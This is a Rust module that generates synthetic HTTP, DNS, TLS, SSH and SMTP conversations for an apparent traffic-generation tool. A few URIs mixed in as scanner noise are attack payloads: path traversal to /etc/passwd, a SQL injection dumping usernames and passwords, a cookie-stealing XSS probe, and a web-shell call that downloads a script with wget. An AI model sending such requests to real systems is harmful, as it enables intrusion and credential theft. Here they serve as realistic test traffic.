//! What the conversations of the protocol mix say: HTTP/1.1 requests and
//! responses, DNS messages, TLS records, SSH and SMTP dialogues.

use std::collections::VecDeque;

use super::{ephemeral, udp_frame, Tcp};
use crate::SplitMix64;

const WORDS: &[&str] = &[
    "account", "about", "blue", "cloud", "data", "delta", "echo", "market", "news", "order", "photo", "price", "report", "search", "share",
    "sky", "store", "summer", "update", "video", "weather", "winter", "world", "zone", "login", "secure", "profile",
];

const DOMAINS: &[&str] =
    &["example", "example-shop", "acme-corp", "widgets", "cloudy", "newsdaily", "photo-share", "bank-of-test", "mailhost", "cdnfast"];

const TLDS: &[&str] = &["com", "org", "net", "io", "de", "co.uk", "test"];

const SUBDOMAINS: &[&str] = &["www", "www", "mail", "api", "cdn", "static", "login", "m", "app", "img", "update", "portal", "vpn", "smtp"];

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Wget/1.21.3",
    "Go-http-client/1.1",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
];

/// A host name of two to four labels (`www.example.com`, `api.acme-corp.co.uk`).
pub(super) fn host_name(r: &mut SplitMix64) -> String {
    let base = format!("{}.{}", r.pick(DOMAINS), r.pick(TLDS));
    match r.below(10) {
        0 => base,
        1 => format!("{}.{}.{}", r.pick(SUBDOMAINS), r.pick(&["eu", "us", "int", "dev"]), base),
        _ => format!("{}.{base}", r.pick(SUBDOMAINS)),
    }
}

fn word(r: &mut SplitMix64) -> &'static str {
    r.pick(WORDS)
}

fn hex(r: &mut SplitMix64, n: usize) -> String {
    (0..n).map(|_| char::from(b"0123456789abcdef"[r.below(16) as usize])).collect()
}

/// Text of about `n` bytes: words, spaces and line breaks.
fn text(r: &mut SplitMix64, n: usize) -> String {
    let mut s = String::with_capacity(n + 16);
    while s.len() < n {
        s += word(r);
        s.push(if r.below(12) == 0 { '\n' } else { ' ' });
    }
    s.truncate(n);
    s
}

/// Text of `lo` to `hi` bytes.
fn text_of(r: &mut SplitMix64, lo: u64, hi: u64) -> String {
    let n = r.range(lo, hi) as usize;
    text(r, n)
}

/// A URI: a path, often with a query string, some of it percent-encoded.
fn uri(r: &mut SplitMix64) -> String {
    let path = match r.below(16) {
        0 => "/".to_string(),
        1 => "/index.html".into(),
        2 => "/favicon.ico".into(),
        3 => "/robots.txt".into(),
        4 => format!("/api/v1/users/{}", r.below(100_000)),
        5 => format!("/api/v2/{}s", word(r)),
        6 => "/search".into(),
        7 => format!("/static/js/app.{}.js", hex(r, 8)),
        8 => "/static/css/main.css".into(),
        9 => format!("/images/{}-{}.png", word(r), r.below(1000)),
        10 => "/wp-login.php".into(),
        11 => "/cgi-bin/status".into(),
        12 => format!("/download/{}.zip", word(r)),
        13 => format!("/news/2024/{:02}/{}-{}.html", r.range(1, 12), word(r), word(r)),
        14 => "/login".into(),
        _ => format!("/{}/{}", word(r), word(r)),
    };
    if r.below(50) == 0 {
        // What scanners and attacks send, as on any network facing the Internet.
        return r
            .pick(&[
                "/index.php?page=../../../../etc/passwd",
                "/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
                "/cgi-bin/../../../../bin/sh",
                "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
                "/q?x=<script>alert(document.cookie)</script>",
                "/phpmyadmin/index.php",
                "/.git/config",
                "/shell.php?cmd=wget%20http://198.51.100.7/x.sh",
            ])
            .to_string();
    }
    let query = match r.below(10) {
        0..=4 => String::new(),
        5 => format!("?q={}+{}&page={}", word(r), word(r), r.range(1, 20)),
        6 => format!("?q={}%20{}%21&lang=en-US", word(r), word(r)),
        7 => format!("?redirect=%2F{}%2F{}%3Fid%3D{}", word(r), word(r), r.below(1000)),
        8 => format!("?name=J%C3%BCrgen&city=M%C3%BCnchen&id={}", r.below(10_000)),
        _ => format!("?utm_source={}&utm_medium=email&token={}", word(r), hex(r, 16)),
    };
    path + &query
}

/// One to three HTTP/1.1 requests on the connection, each with its response.
pub(super) fn http(r: &mut SplitMix64, t: &mut Tcp) {
    let host = host_name(r);
    let ua = r.pick(USER_AGENTS);
    let cookie = if r.chance(40) { Some(format!("session={}; prefs=lang%3Den; _ga=GA1.2.{}", hex(r, 32), r.next_u32())) } else { None };
    let n = if r.chance(30) { r.range(2, 3) } else { 1 };
    for _ in 0..n {
        let method = match r.below(20) {
            0..=11 => "GET",
            12..=15 => "POST",
            16..=17 => "HEAD",
            _ => "PUT",
        };
        let mut req = format!("{method} {} HTTP/1.1\r\nHost: {host}", uri(r));
        if t.s.port != 80 {
            req += &format!(":{}", t.s.port);
        }
        req += &format!(
            "\r\nUser-Agent: {ua}\r\nAccept: {}\r\n",
            r.pick(&["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"])
        );
        if r.chance(60) {
            req += "Accept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate, br\r\n";
        }
        if let Some(c) = &cookie {
            req += &format!("Cookie: {c}\r\n");
        }
        if r.chance(30) {
            req += &format!("Referer: http://{host}/{}\r\n", word(r));
        }
        let body: Vec<u8> = match method {
            "POST" if r.chance(60) => {
                req += "Content-Type: application/x-www-form-urlencoded\r\n";
                format!("user={}&password={}&remember=1&next=%2F{}", word(r), hex(r, 12), word(r)).into_bytes()
            }
            "POST" | "PUT" if r.chance(70) => {
                req += "Content-Type: application/json\r\n";
                format!(
                    "{{\"id\":{},\"name\":\"{}\",\"tags\":[\"{}\",\"{}\"],\"note\":\"{}\"}}",
                    r.below(1 << 20),
                    word(r),
                    word(r),
                    word(r),
                    text_of(r, 10, 3000).replace('\n', " ")
                )
                .into_bytes()
            }
            "POST" | "PUT" => {
                req += "Content-Type: application/octet-stream\r\n";
                let n = r.range(100, 8000) as usize;
                r.bytes(n)
            }
            _ => Vec::new(),
        };
        if !body.is_empty() {
            req += &format!("Content-Length: {}\r\n", body.len());
        }
        req += "Connection: keep-alive\r\n\r\n";
        let mut msg = req.into_bytes();
        msg.extend(body);
        t.send(true, &msg);
        t.send(false, &http_response(r, method));
    }
}

/// A response to `method`: status line, headers, and a body whose size is
/// mostly small, sometimes hundreds of kilobytes.
fn http_response(r: &mut SplitMix64, method: &str) -> Vec<u8> {
    let (code, reason) = match r.below(100) {
        0..=71 => (200, "OK"),
        72..=75 => (301, "Moved Permanently"),
        76..=79 => (302, "Found"),
        80..=85 => (304, "Not Modified"),
        86..=91 => (404, "Not Found"),
        92..=93 => (403, "Forbidden"),
        94..=95 => (206, "Partial Content"),
        96 => (204, "No Content"),
        97 => (400, "Bad Request"),
        _ => (500, "Internal Server Error"),
    };
    let server = r.pick(&["nginx/1.24.0", "Apache/2.4.57 (Debian)", "Microsoft-IIS/10.0", "cloudflare", "gws", "lighttpd/1.4.69"]);
    let kind = r.below(10);
    let ctype = match kind {
        0..=3 => "text/html; charset=utf-8",
        4..=5 => "application/json",
        6 => "image/png",
        7 => "application/javascript",
        8 => "text/css",
        _ => "application/octet-stream",
    };
    let size = match r.below(20) {
        0..=7 => r.range(0, 2_000),
        8..=15 => r.range(2_000, 20_000),
        16..=18 => r.range(20_000, 100_000),
        _ => r.range(100_000, 500_000),
    } as usize;
    let body: Vec<u8> = if matches!(code, 204 | 304) {
        Vec::new()
    } else if code >= 300 {
        format!("<html><head><title>{code} {reason}</title></head><body><h1>{reason}</h1></body></html>\n").into_bytes()
    } else {
        match kind {
            0..=3 => {
                let mut b = format!("<!DOCTYPE html>\n<html><head><title>{}</title></head><body>\n", word(r)).into_bytes();
                while b.len() < size {
                    let p = text_of(r, 40, 400);
                    b.extend(format!("<p>{p}</p>\n").into_bytes());
                }
                b.extend(b"</body></html>\n");
                b
            }
            4..=5 => {
                format!("{{\"status\":\"ok\",\"count\":{},\"items\":\"{}\"}}", r.below(100), text(r, size).replace('\n', " ")).into_bytes()
            }
            7 | 8 => text(r, size).into_bytes(),
            6 => {
                let mut b = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
                b.extend(r.bytes(size));
                b
            }
            _ => r.bytes(size),
        }
    };
    let mut h = format!(
        "HTTP/1.1 {code} {reason}\r\nDate: Mon, {:02} Jan 2024 {:02}:{:02}:{:02} GMT\r\nServer: {server}\r\n",
        r.range(1, 28),
        r.below(24),
        r.below(60),
        r.below(60)
    );
    if code != 204 && code != 304 {
        h += &format!("Content-Type: {ctype}\r\nContent-Length: {}\r\n", body.len());
    }
    if code == 301 || code == 302 {
        h += &format!("Location: https://www.{}.com/{}\r\n", r.pick(DOMAINS), word(r));
    }
    if r.chance(30) {
        h += &format!("Set-Cookie: id={}; Path=/; HttpOnly\r\n", hex(r, 24));
    }
    if r.chance(50) {
        h += &format!("Cache-Control: max-age={}\r\nETag: \"{}\"\r\n", r.pick(&[0, 60, 3600, 86400]), hex(r, 16));
    }
    h += "Connection: keep-alive\r\n\r\n";
    let mut msg = h.into_bytes();
    if method != "HEAD" {
        msg.extend(body);
    }
    msg
}

/// A domain name in DNS's wire form (labels, then the root's 0).
fn dns_name(name: &str) -> Vec<u8> {
    let mut b = Vec::with_capacity(name.len() + 2);
    for l in name.split('.') {
        b.push(l.len() as u8);
        b.extend_from_slice(l.as_bytes());
    }
    b.push(0);
    b
}

const OPT: [u8; 11] = [0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0]; // EDNS(0), 4096-byte UDP payload

/// One to three DNS queries (A, AAAA, MX, TXT) from `client`, each answered.
pub(super) fn dns(r: &mut SplitMix64, client: u32) -> VecDeque<Vec<u8>> {
    let server = r.pick(&[0xc000_0235u32, 0xc633_6435, 0xcb00_7135, 0xc000_0201]);
    let sport = ephemeral(r);
    let (mut id_c, mut id_s) = (r.next_u16(), r.next_u16());
    let mut out = VecDeque::new();
    let name = host_name(r);
    for _ in 0..r.range(1, 3) {
        let qtype: u16 = match r.below(10) {
            0..=4 => 1,
            5..=6 => 28,
            7..=8 => 15,
            _ => 16,
        };
        let edns = r.chance(50);
        let txid = r.next_u16();
        let mut q = Vec::new();
        q.extend_from_slice(&txid.to_be_bytes());
        q.extend_from_slice(&0x0100u16.to_be_bytes()); // RD
        q.extend_from_slice(&[0, 1, 0, 0, 0, 0, 0, u8::from(edns)]);
        let registered = if name.matches('.').count() >= 2 { name.split_once('.').map_or(name.as_str(), |x| x.1) } else { name.as_str() };
        let qname = if qtype == 15 || qtype == 16 { registered.to_string() } else { name.clone() };
        q.extend(dns_name(&qname));
        q.extend_from_slice(&qtype.to_be_bytes());
        q.extend_from_slice(&[0, 1]);
        let question_end = q.len();
        if edns {
            q.extend_from_slice(&OPT);
        }
        out.push_back(udp_frame(client, true, (client, sport, server, 53), id_c, 64, &q));
        id_c = id_c.wrapping_add(1);
        // The response: the question, then the answers.
        let mut a = q[..question_end].to_vec();
        let nx = r.below(12) == 0;
        a[2..4].copy_from_slice(&(if nx { 0x8183u16 } else { 0x8180 }).to_be_bytes());
        let mut answers = 0u16;
        let mut owner = 0xc00cu16; // the question's name
        let mut rr = |a: &mut Vec<u8>, owner: u16, ty: u16, data: &[u8], ttl: u32| {
            a.extend_from_slice(&owner.to_be_bytes());
            a.extend_from_slice(&ty.to_be_bytes());
            a.extend_from_slice(&[0, 1]);
            a.extend_from_slice(&ttl.to_be_bytes());
            a.extend_from_slice(&(data.len() as u16).to_be_bytes());
            a.extend_from_slice(data);
            answers += 1;
        };
        if !nx {
            let ttl = r.pick(&[60u32, 300, 3600, 86_400]);
            if qtype != 16 && r.chance(20) {
                // A CNAME first; the records after it are for its target.
                let target = dns_name(&format!("{}.{}.net", r.pick(SUBDOMAINS), r.pick(DOMAINS)));
                let at = a.len() + 12;
                rr(&mut a, owner, 5, &target, ttl);
                owner = 0xc000 | at as u16;
            }
            match qtype {
                1 => {
                    for _ in 0..r.range(1, 4) {
                        let ip = [r.pick(&[192u8, 198, 203]), r.pick(&[0u8, 51]), r.pick(&[2u8, 100, 113]), r.range(1, 254) as u8];
                        rr(&mut a, owner, 1, &ip, ttl);
                    }
                }
                28 => {
                    let mut ip = [0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
                    ip[8..].copy_from_slice(&r.next_u64().to_be_bytes());
                    rr(&mut a, owner, 28, &ip, ttl);
                }
                15 => {
                    for k in 0..r.range(1, 2) {
                        let mut d = ((k as u16 + 1) * 10).to_be_bytes().to_vec();
                        d.extend(dns_name(&format!("mx{}.{qname}", k + 1)));
                        rr(&mut a, owner, 15, &d, ttl);
                    }
                }
                _ => {
                    let s = match r.below(3) {
                        0 => format!("v=spf1 include:_spf.{qname} ip4:192.0.2.0/24 ~all"),
                        1 => format!("site-verification={}", hex(r, 43)),
                        _ => format!("v=DMARC1; p=none; rua=mailto:dmarc@{qname}"),
                    };
                    let mut d = vec![s.len() as u8];
                    d.extend_from_slice(s.as_bytes());
                    rr(&mut a, owner, 16, &d, ttl);
                }
            }
        }
        a[6..8].copy_from_slice(&answers.to_be_bytes());
        if edns {
            a.extend_from_slice(&OPT);
        }
        out.push_back(udp_frame(client, false, (server, 53, client, sport), id_s, 57, &a));
        id_s = id_s.wrapping_add(1);
    }
    out
}

/// A TLS record: content type, version, length, body.
fn record(ty: u8, version: u16, body: &[u8]) -> Vec<u8> {
    let mut b = vec![ty];
    b.extend_from_slice(&version.to_be_bytes());
    b.extend_from_slice(&(body.len() as u16).to_be_bytes());
    b.extend_from_slice(body);
    b
}

/// A handshake message: type, 24-bit length, body.
fn handshake(ty: u8, body: &[u8]) -> Vec<u8> {
    let mut b = vec![ty];
    b.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    b.extend_from_slice(body);
    b
}

/// An extension: type, length, data.
fn ext(b: &mut Vec<u8>, ty: u16, data: &[u8]) {
    b.extend_from_slice(&ty.to_be_bytes());
    b.extend_from_slice(&(data.len() as u16).to_be_bytes());
    b.extend_from_slice(data);
}

/// `data` after its 16-bit (`len16`) or 8-bit length.
fn vec16(data: &[u8]) -> Vec<u8> {
    let mut b = (data.len() as u16).to_be_bytes().to_vec();
    b.extend_from_slice(data);
    b
}

fn u16s(xs: &[u16]) -> Vec<u8> {
    xs.iter().flat_map(|x| x.to_be_bytes()).collect()
}

/// `data` as records of at most 16 KiB of type `ty`.
fn records(ty: u8, data: &[u8]) -> Vec<u8> {
    data.chunks(16_384).flat_map(|c| record(ty, 0x0303, c)).collect()
}

/// A TLS session: the handshake (1.2 with its certificates in the clear,
/// or 1.3), records of application data both ways, close_notify.
pub(super) fn tls(r: &mut SplitMix64, t: &mut Tcp) {
    let sni = host_name(r);
    let offers13 = r.chance(75);
    let session: Vec<u8> = r.bytes(32);
    let mut hello = vec![3, 3];
    hello.extend(r.bytes(32));
    hello.push(32);
    hello.extend_from_slice(&session);
    let mut suites = if offers13 { vec![0x1301u16, 0x1302, 0x1303] } else { vec![] };
    suites.extend_from_slice(&[0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035]);
    hello.extend(vec16(&u16s(&suites)));
    hello.extend_from_slice(&[1, 0]);
    let mut exts = Vec::new();
    let mut sn = vec![0u8];
    sn.extend(vec16(sni.as_bytes()));
    ext(&mut exts, 0x0000, &vec16(&sn));
    ext(&mut exts, 0x0017, &[]);
    ext(&mut exts, 0xff01, &[0]);
    ext(&mut exts, 0x000a, &vec16(&u16s(&[0x001d, 0x0017, 0x0018])));
    ext(&mut exts, 0x000b, &[1, 0]);
    ext(&mut exts, 0x0023, &[]);
    ext(&mut exts, 0x0010, &vec16(b"\x02h2\x08http/1.1"));
    ext(&mut exts, 0x000d, &vec16(&u16s(&[0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601])));
    if offers13 {
        ext(&mut exts, 0x002b, &[4, 3, 4, 3, 3]);
        ext(&mut exts, 0x002d, &[1, 1]);
        let mut ks = u16s(&[0x001d, 32]);
        ks.extend(r.bytes(32));
        ext(&mut exts, 0x0033, &vec16(&ks));
    }
    hello.extend(vec16(&exts));
    t.send(true, &record(22, 0x0301, &handshake(1, &hello)));

    let tls13 = offers13 && r.chance(80);
    let mut sh = vec![3, 3];
    sh.extend(r.bytes(32));
    sh.push(32);
    sh.extend_from_slice(&session);
    let mut sexts = Vec::new();
    if tls13 {
        sh.extend(u16s(&[r.pick(&[0x1301, 0x1302, 0x1303])]));
        sh.push(0);
        ext(&mut sexts, 0x002b, &[3, 4]);
        let mut ks = u16s(&[0x001d, 32]);
        ks.extend(r.bytes(32));
        ext(&mut sexts, 0x0033, &ks);
    } else {
        sh.extend(u16s(&[r.pick(&[0xc02f, 0xc030, 0xc02b, 0x009c])]));
        sh.push(0);
        ext(&mut sexts, 0xff01, &[0]);
        ext(&mut sexts, 0x0017, &[]);
        ext(&mut sexts, 0x000b, &[1, 0]);
    }
    sh.extend(vec16(&sexts));
    let mut flight = record(22, 0x0303, &handshake(2, &sh));
    let certs: usize = r.range(1, 3) as usize;
    let cert_bytes: Vec<Vec<u8>> = (0..certs)
        .map(|_| {
            let n = r.range(700, 1800) as usize;
            let mut c = vec![0x30, 0x82, (n >> 8) as u8, n as u8];
            c.extend(r.bytes(n));
            c
        })
        .collect();
    if tls13 {
        flight.extend(record(20, 0x0303, &[1]));
        // EncryptedExtensions, Certificate, CertificateVerify, Finished.
        let n: usize = cert_bytes.iter().map(|c| c.len() + 3).sum::<usize>() + 400;
        flight.extend(records(23, &r.bytes(n)));
        t.send(false, &flight);
        let mut fin = record(20, 0x0303, &[1]);
        fin.extend(record(23, 0x0303, &r.bytes(53)));
        t.send(true, &fin);
    } else {
        let list: Vec<u8> = cert_bytes
            .iter()
            .flat_map(|c| {
                let mut e = (c.len() as u32).to_be_bytes()[1..].to_vec();
                e.extend_from_slice(c);
                e
            })
            .collect();
        let mut cm = (list.len() as u32).to_be_bytes()[1..].to_vec();
        cm.extend(list);
        let mut ske = vec![3, 0, 0x1d, 32];
        ske.extend(r.bytes(32));
        ske.extend(u16s(&[0x0804, 256]));
        ske.extend(r.bytes(256));
        let mut hs = handshake(11, &cm);
        hs.extend(handshake(12, &ske));
        hs.extend(handshake(14, &[]));
        flight.extend(records(22, &hs));
        t.send(false, &flight);
        let mut cke = vec![32];
        cke.extend(r.bytes(32));
        let mut c = record(22, 0x0303, &handshake(16, &cke));
        c.extend(record(20, 0x0303, &[1]));
        c.extend(record(22, 0x0303, &r.bytes(40)));
        t.send(true, &c);
        let mut s = record(20, 0x0303, &[1]);
        s.extend(record(22, 0x0303, &r.bytes(40)));
        t.send(false, &s);
    }
    for _ in 0..r.range(1, 8) {
        let n = r.range(60, 1500) as usize;
        t.send(true, &record(23, 0x0303, &r.bytes(n)));
        let n = match r.below(4) {
            0 => r.range(30, 1000),
            1 | 2 => r.range(1000, 20_000),
            _ => r.range(20_000, 120_000),
        } as usize;
        t.send(false, &records(23, &r.bytes(n)));
    }
    t.send(true, &record(21, 0x0303, &r.bytes(26)));
}

/// An SSH session: both banners, KEXINIT both ways, the key exchange, then
/// encrypted packets.
pub(super) fn ssh(r: &mut SplitMix64, t: &mut Tcp) {
    t.send(
        false,
        r.pick(&[
            &b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n"[..],
            b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n",
            b"SSH-2.0-dropbear_2022.83\r\n",
        ]),
    );
    t.send(true, r.pick(&[&b"SSH-2.0-OpenSSH_9.6\r\n"[..], b"SSH-2.0-PuTTY_Release_0.80\r\n", b"SSH-2.0-libssh2_1.11.0\r\n"]));
    let packet = |r: &mut SplitMix64, payload: &[u8]| {
        let pad = 4 + (8 - (payload.len() + 9) % 8) % 8;
        let mut b = ((payload.len() + pad + 1) as u32).to_be_bytes().to_vec();
        b.push(pad as u8);
        b.extend_from_slice(payload);
        b.extend(r.bytes(pad));
        b
    };
    let lists: [&[u8]; 10] = [
        b"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha256,ext-info-c",
        b"ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
        b"chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com",
        b"chacha20-poly1305@openssh.com,aes128-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com",
        b"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        b"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        b"none,zlib@openssh.com",
        b"none,zlib@openssh.com",
        b"",
        b"",
    ];
    for to_server in [true, false] {
        let mut k = vec![20u8];
        k.extend(r.bytes(16));
        for l in lists {
            k.extend_from_slice(&(l.len() as u32).to_be_bytes());
            k.extend_from_slice(l);
        }
        k.extend_from_slice(&[0, 0, 0, 0, 0]);
        let p = packet(r, &k);
        t.send(to_server, &p);
    }
    let mut init = vec![30u8, 0, 0, 0, 32];
    init.extend(r.bytes(32));
    let p = packet(r, &init);
    t.send(true, &p);
    let mut reply = vec![31u8];
    let n = r.range(200, 600) as usize;
    reply.extend(r.bytes(n));
    let mut p = packet(r, &reply);
    p.extend(packet(r, &[21]));
    t.send(false, &p);
    let p = packet(r, &[21]);
    t.send(true, &p);
    for _ in 0..r.range(2, 12) {
        let to_server = r.chance(50);
        let n = if r.chance(80) { r.range(36, 120) } else { r.range(120, 4000) } as usize;
        t.send(to_server, &r.bytes(n));
    }
}

/// An SMTP session: greeting, EHLO, MAIL FROM, RCPT TO, DATA, QUIT.
pub(super) fn smtp(r: &mut SplitMix64, t: &mut Tcp) {
    let server = format!("mail.{}.{}", r.pick(DOMAINS), r.pick(TLDS));
    let client = host_name(r);
    let (from, to) = (format!("{}@{client}", word(r)), format!("{}@{}", word(r), server.trim_start_matches("mail.")));
    t.send(false, format!("220 {server} ESMTP Postfix\r\n").as_bytes());
    t.send(true, format!("EHLO {client}\r\n").as_bytes());
    t.send(
        false,
        format!("250-{server}\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-STARTTLS\r\n250-8BITMIME\r\n250 SMTPUTF8\r\n").as_bytes(),
    );
    t.send(true, format!("MAIL FROM:<{from}>\r\n").as_bytes());
    t.send(false, b"250 2.1.0 Ok\r\n");
    t.send(true, format!("RCPT TO:<{to}>\r\n").as_bytes());
    t.send(false, b"250 2.1.5 Ok\r\n");
    t.send(true, b"DATA\r\n");
    t.send(false, b"354 End data with <CR><LF>.<CR><LF>\r\n");
    let body = text_of(r, 200, 20_000).replace('\n', "\r\n");
    let msg = format!(
        "From: <{from}>\r\nTo: <{to}>\r\nSubject: {} {}\r\nDate: Mon, 01 Jan 2024 10:00:00 +0000\r\nMessage-ID: <{}@{client}>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n.\r\n",
        word(r),
        word(r),
        hex(r, 16)
    );
    t.send(true, msg.as_bytes());
    t.send(false, format!("250 2.0.0 Ok: queued as {}\r\n", hex(r, 10).to_uppercase()).as_bytes());
    t.send(true, b"QUIT\r\n");
    t.send(false, b"221 2.0.0 Bye\r\n");
}
